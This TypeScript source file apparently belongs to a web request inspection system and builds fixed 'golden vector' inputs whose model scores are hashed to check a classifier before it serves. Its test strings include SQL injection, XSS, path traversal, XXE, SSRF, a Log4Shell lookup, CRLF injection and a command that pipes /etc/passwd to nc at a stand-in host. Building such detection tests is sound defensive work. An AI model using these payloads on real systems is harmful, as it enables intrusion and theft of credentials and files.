/**
 * Golden vectors: what a model must say of fixed windows, bit for bit. They are made of bytes that no later version
 * of inspection can change. Told at publishing by the plain TypeScript kernel, asked at every load of the kernel that
 * will serve: a model that was read wrongly, or a kernel that computes wrongly here, does not get to serve.
 */
import { createHash } from 'node:crypto'
import { FIELD_KINDS, WINDOW_BYTES, type RequestViews } from '../inspect/index.js'
import type { Student } from '../student/index.js'

const TEXTS = [
  '',
  'a',
  'running shoes size 42',
  "1' OR '1'='1' -- -",
  '1 UNION SELECT username, password FROM users',
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc 203.0.113.5 4444',
  '${jndi:ldap://203.0.113.5/a}',
  '{"$ne": null}',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  'http://169.254.169.254/latest/meta-data/',
  'x\r\nSet-Cookie: a=b',
  'select a union of interests from where you are',
  'Ünïcödé 東京都 \u{1f600}',
  'x'.repeat(WINDOW_BYTES),
]

/** Windows of bytes that a hash draws, beside the texts. */
const DRAWN = 48

/** The fixed windows, each of a kind of its own in turn. */
export function goldenViews(): RequestViews {
  const drawn = Array.from({ length: DRAWN }, (_, i) => drawnBytes(i))
  const windows = [...TEXTS.map((text) => Buffer.from(text).subarray(0, WINDOW_BYTES)), ...drawn]
  let at = 0
  return {
    bytes: Buffer.concat(windows),
    count: windows.length,
    starts: Uint32Array.from(windows, ({ length }) => (at += length) - length),
    lengths: Uint16Array.from(windows, ({ length }) => length),
    kinds: Uint8Array.from(windows, (_, i) => i % FIELD_KINDS.length),
    fieldOf: Uint32Array.from(windows, (_, i) => i),
    fields: windows.map(({ length }, i) => ({
      kind: FIELD_KINDS[i % FIELD_KINDS.length]!,
      name: '',
      source: { place: 'body', header: -1, start: 0, end: length },
    })),
    truncated: [],
  }
}

/** Bytes of all values, or, for every other window, printable ones. */
function drawnBytes(i: number): Buffer {
  const length = (i * 11) % WINDOW_BYTES
  const blocks: Buffer[] = []
  for (let n = 0; n * 32 < length; n++) {
    blocks.push(createHash('sha256').update(`stillgate golden ${i} ${n}`).digest())
  }
  const bytes = Buffer.concat(blocks).subarray(0, length)
  return i % 2 === 0 ? bytes : (bytes.map((b) => 0x20 + (b % 95)) as Buffer)
}

/** SHA-256 over the probabilities that a model gives the fixed windows. */
export function goldenHash(student: Student): string {
  const probabilities = student.judgeWindows(goldenViews())
  const { buffer, byteOffset, byteLength } = probabilities
  return createHash('sha256')
    .update(new Uint8Array(buffer, byteOffset, byteLength))
    .digest('hex')
}
